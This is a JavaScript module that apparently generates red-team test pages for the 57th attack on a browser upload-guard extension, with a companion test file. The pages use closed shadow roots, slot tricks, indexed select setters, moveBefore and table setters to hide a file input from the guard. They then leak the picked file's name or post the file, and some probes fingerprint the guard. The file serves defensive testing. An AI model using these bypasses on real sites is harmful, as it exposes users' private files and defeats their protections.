// Hostile pages for the fifty-seventh attack on the upload guard: the read
// barrier (file-barrier.js) and the insertion survey (insertions.js) after
// attack 55's fix. Chromium's own picker is opened as in attack 44's
// labeldeep (a span 70 deep inside a DETACHED label holding a file input i,
// clicked in the person's click on "#open"); but the chooser is ASYNCHRONOUS:
// right after the click, while the chooser is still open and i still EMPTY,
// the page connects i (the survey finds nothing to hold), somewhere it may be
// not rendered or not heard (a closed shadow root, an unassigned slot, a
// hidden container). Chromium then fills i where it stands; i's change
// listener shows it (no insertion) and reads the name drawn in it (attack 48's
// findsel), or posts a form holding it natively. A name learnt goes up as a
// text note "leak-….txt". Served by server.mjs at /attack57-…; tests:
// attack57.test.mjs.

import { findSelection, leakNote as leak, attackPages, pickerWaysPage } from './uploads.mjs';


const findsel = (why) => findSelection(why, { fresh: true });

/** A multipart form f (posting to /upload into a hidden frame), with a submit button b. */
const form = "const fr = document.createElement('iframe'); fr.name = 'sink57'; fr.style.display = 'none'; document.body.append(fr); const f = document.createElement('form'); f.method = 'post'; f.enctype = 'multipart/form-data'; f.action = '/upload'; f.target = 'sink57'; const b = document.createElement('button'); b.type = 'submit'; b.textContent = 'go';";

/**
 * In the person's click: the labeldeep label l (i, the deep span), its span clicked (Chromium's own picker asked
 * for, detached); then `after` (i still empty: connect it somewhere); on i's change, `reveal` (show it) then `find`.
 */
const pickThenPlace = (why, after, { reveal = '', find = findsel(why), setup = '' } = {}) => `
      ${leak}
      ${setup}
      document.getElementById('open').addEventListener('click', () => {
        const l = document.createElement('label'); const i = document.createElement('input'); i.type = 'file'; i.name = 'photo'; i.style.width = '600px';
        const x = document.createElement('input'); let t = x; x.addEventListener('click', () => { x.type = 'hidden'; }); t.textContent = 'x';
        l.append(i, x);
        i.addEventListener('change', () => { note('change connected ' + i.isConnected); try { ${reveal} note('w ' + i.offsetWidth);
          ${find} } catch (e) { note('threw ' + e.name + ' ' + e.message); } });
        try { t.click(); } catch (e) { note('click threw ' + e.name); }
        try { ${after} note('placed: connected ' + i.isConnected); } catch (e) { note('place threw ' + e.name + ' ' + e.message); }
      });`;

const post = "window.b57.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true })); note('posted');";


/**
 * In the person's click: the labeldeep label l inside a DETACHED <option> o; its deep span clicked (Chromium's own
 * picker fills i, detached). On change: `put` (o into a connected select by its INDEXED setter, which no wrapper can
 * see), then findsel.
 */
const inOption = (why, put, setup) => `
      ${leak}
      ${setup}
      document.getElementById('open').addEventListener('click', () => {
        const o = document.createElement('option'); const l = document.createElement('label'); const i = document.createElement('input'); i.type = 'file'; i.name = 'photo'; i.style.width = '600px';
        const x = document.createElement('input'); let t = x; x.addEventListener('click', () => { x.type = 'hidden'; }); t.textContent = 'x';
        l.append(i, x); o.append(l); window.o57 = o;
        i.addEventListener('change', () => { note('change connected ' + i.isConnected); try { ${put}
          const sc = document.querySelector('selectedcontent'); note('i connected ' + i.isConnected + ' selectedcontent inputs ' + (sc ? sc.querySelectorAll('input').length : 'none') + ' files ' + (sc && sc.querySelector('input') ? 'n/a' : '-'));
          ${findsel(why)} } catch (e) { note('threw ' + e.name + ' ' + e.message); } });
        try { t.click(); } catch (e) { note('click threw ' + e.name); }
      });`;
const baseSelect = "const st = document.createElement('style'); st.textContent = 'select, ::picker(select) { appearance: base-select; } select { width: 700px; }'; document.head.append(st); const s = document.createElement('select'); s.innerHTML = '<button><selectedcontent></selectedcontent></button><option>first</option>'; document.body.append(s); window.s57 = s;";
const plainSelect = "const s = document.createElement('select'); s.innerHTML = '<option>first</option>'; s.style.width = '700px'; document.body.append(s); window.s57 = s;";

/** In the person's click: the labeldeep label l in a DETACHED element `wrap` (w); on change, `put`, then findsel. */
const inElement = (why, wrap, put, setup = '') => `
      ${leak}
      ${setup}
      document.getElementById('open').addEventListener('click', () => {
        const w = ${wrap}; const l = document.createElement('label'); const i = document.createElement('input'); i.type = 'file'; i.name = 'photo'; i.style.width = '600px';
        const x = document.createElement('input'); let t = x; x.addEventListener('click', () => { x.type = 'hidden'; }); t.textContent = 'x';
        l.append(i, x); (w.localName === 'thead' || w.localName === 'tfoot' ? w.appendChild(document.createElement('tr')).appendChild(document.createElement('td')) : w).append(l); window.w57 = w;
        i.addEventListener('change', () => { note('change connected ' + i.isConnected); try { ${put} note('i connected ' + i.isConnected + ' w ' + i.offsetWidth);
          ${findsel(why)} } catch (e) { note('threw ' + e.name + ' ' + e.message); } });
        try { t.click(); } catch (e) { note('click threw ' + e.name); }
      });`;
const table = "const tb = document.createElement('table'); document.body.append(tb); window.tb57 = tb;";

const HTML_WAYS = {
  // i connected plainly in the body (control: a connected input's change is heard by guard.js's window listener).
  placebody: pickThenPlace('placebody', 'document.body.append(l);'),
  // i in a CLOSED shadow root (page-made) of a connected host.
  placeclosed: pickThenPlace('placeclosed', "const h = document.createElement('div'); document.body.append(h); h.attachShadow({ mode: 'closed' }).append(l);"),
  // i in the light DOM of a host whose (closed, manual) root assigns no slot: connected, not rendered; shown in the
  // change listener by slot.assign (no insertion).
  placeslotassign: pickThenPlace('placeslotassign', "const h = document.createElement('div'); const r = h.attachShadow({ mode: 'closed', slotAssignment: 'manual' }); const s = document.createElement('slot'); r.append(s); window.s57 = s; h.append(l); document.body.append(h);", { reveal: 'window.s57.assign(l);' }),
  // The same with a named slot whose name is changed to l's slot in the change listener.
  placeslotname: pickThenPlace('placeslotname', "const h = document.createElement('div'); const r = h.attachShadow({ mode: 'closed' }); const s = document.createElement('slot'); s.name = 'no'; r.append(s); window.s57 = s; l.slot = 'yes'; h.append(l); document.body.append(h);", { reveal: "window.s57.name = 'yes';" }),
  // i connected in a display:none div, shown in the change listener.
  placenone: pickThenPlace('placenone', "const d = document.createElement('div'); d.style.display = 'none'; window.d57 = d; d.append(l); document.body.append(d);", { reveal: "window.d57.style.display = 'block';" }),
  // i in a closed <details>, opened in the change listener.
  placedetails: pickThenPlace('placedetails', "const d = document.createElement('details'); window.d57 = d; d.append(l); document.body.append(d);", { reveal: 'window.d57.open = true;' }),
  // i in a hidden=until-found div: window.find itself reveals it.
  placeuntilfound: pickThenPlace('placeuntilfound', "const d = document.createElement('div'); d.hidden = 'until-found'; d.append(l); document.body.append(d);"),
  // i in a connected, same-origin frame's document (adopted by the append), the name read there.
  placeframe: pickThenPlace('placeframe', "const fr = document.createElement('iframe'); document.body.append(fr); window.fr57 = fr; fr.contentDocument.body.append(l);", { find: findsel('placeframe').replace(/window\.find/g, 'window.fr57.contentWindow.find').replace(/getSelection\(\)/g, 'window.fr57.contentWindow.getSelection()') }),
  // i in a form in a closed shadow root (connected); on change, a click on the button that stays in the root: native post.
  postclosed: pickThenPlace('postclosed', `${form} f.append(l, b); window.b57 = b; const h = document.createElement('div'); document.body.append(h); h.attachShadow({ mode: 'closed' }).append(f);`, { find: post }),
  // i in a plain connected form, posted on change.
  postbody: pickThenPlace('postbody', `${form} f.append(l, b); window.b57 = b; document.body.append(f);`, { find: post }),
  // i inside an option put into a connected base-select <select> by `select[0] = option` (not wrapped: no survey);
  // the select clones the selected option's content into its <selectedcontent> (a clone the page did not ask for).
  selectindex: inOption('selectindex', 'window.s57[0] = window.o57;', baseSelect),
  // The same with options.add (wrapped?) for comparison, and a plain select.
  selectadd: inOption('selectadd', 'window.s57.options.add(window.o57, 0); window.s57.selectedIndex = 0;', baseSelect),
  selectplain: inOption('selectplain', 'window.s57[0] = window.o57;', plainSelect),
  // selectindex, then the label (i in it) moved out of the option into the body by moveBefore (both connected: allowed).
  selectmove: inOption('selectmove', "window.s57[0] = window.o57; const l2 = window.o57.firstElementChild; document.body.moveBefore(l2, null); note('moved');", plainSelect),
  // selectaddmove with the label moved by moveBefore into a connected multipart form, posted by a click on its button.
  selectmovepost: inOption('selectmovepost', `window.s57.options.add(window.o57, 0); ${form} b.id = 'b57'; document.body.append(f); f.append(b); const l2 = window.o57.firstElementChild; f.moveBefore(l2, b); note('in form ' + f.elements.length); b.click();`, plainSelect),
  // The same with the select itself inside the form (i never moved: it goes from the option).
  selectinform: inOption('selectinform', `${form} document.body.append(f); f.append(window.s57, b); window.s57.options.add(window.o57, 0); note('in form ' + f.elements.length); b.click();`, plainSelect),
  // selectindex with the closed base-select picker forced visible by author CSS (no moveBefore): is the option drawn?
  selectshow: inOption('selectshow', "const st2 = document.createElement('style'); st2.textContent = 'select::picker(select) { display: block !important; position: static !important; } option { display: block !important; }'; document.head.append(st2); window.s57[0] = window.o57; note('i w ' + window.o57.querySelector('input').offsetWidth);", baseSelect),
  // Control for selectmove: o put in by options.add (a wrapped insertion, surveyed), then moved the same way.
  selectaddmove: inOption('selectaddmove', "window.s57.options.add(window.o57, 0); const l2 = window.o57.firstElementChild; document.body.moveBefore(l2, null); note('moved');", plainSelect),
  // selectmove with the label moved out into a connected div by appendChild (wrapped, surveyed) instead of moveBefore.
  selectappend: inOption('selectappend', "window.s57[0] = window.o57; const l2 = window.o57.firstElementChild; const d = document.createElement('div'); document.body.append(d); d.appendChild(l2); note('appended');", plainSelect),
  // The clone <selectedcontent> made of i (base-select) moved into the body by moveBefore: i itself never rendered.
  selectclonemove: inOption('selectclonemove', "window.s57[0] = window.o57; const ci = document.querySelector('selectedcontent input'); note('clone ' + !!ci); document.body.moveBefore(ci, null); window.o57.remove(); note('moved clone, i connected ' + window.o57.isConnected);", baseSelect),
  // l in a caption set on a connected table by the `caption` setter (rendered at once).
  tablecaption: inElement('tablecaption', "document.createElement('caption')", 'window.tb57.caption = window.w57;', table),
  // The same with tHead / tFoot.
  tablethead: inElement('tablethead', "document.createElement('thead')", 'window.tb57.tHead = window.w57;', table),
  tabletfoot: inElement('tabletfoot', "document.createElement('tfoot')", 'window.tb57.tFoot = window.w57;', table),
  // l in a new <body> given to document.body (the old body replaced).
  bodyset: inElement('bodyset', "document.createElement('body')", 'document.body = window.w57;'),
  // selectindex, the clone in <selectedcontent> sized to its content: does its width differ from an empty file input's?
  selectclone: inOption('selectclone', "window.s57[0] = window.o57; const ci = document.querySelector('selectedcontent input'); ci.style.fieldSizing = 'content'; ci.style.width = ''; const e = document.createElement('input'); e.type = 'file'; e.style.fieldSizing = 'content'; document.body.append(e); note('clone w ' + ci.offsetWidth + ' empty ' + e.offsetWidth);", baseSelect),
};
const { names: PICKER_WAYS, page: picker } = pickerWaysPage(HTML_WAYS);
export { PICKER_WAYS };
/** Telling Silbato is there with no action of the person (detectionProbes: the same probe with and without). */
const PROBES = {
  // moveBefore given null (seen as the second change of selectmovepost: "Invalid value used in weak set").
  movebeforenull: "try { document.body.moveBefore(null, null); return 'no throw'; } catch (e) { return e.name + ': ' + e.message; }",
  // The same with a number.
  movebeforenumber: "try { document.body.moveBefore(5, null); return 'no throw'; } catch (e) { return e.name + ': ' + e.message; }",
  // appendChild given null, for comparison.
  appendnull: "try { document.body.appendChild(null); return 'no throw'; } catch (e) { return e.name + ': ' + e.message; }",
};
export const attack57Page = attackPages(57, picker, PROBES);
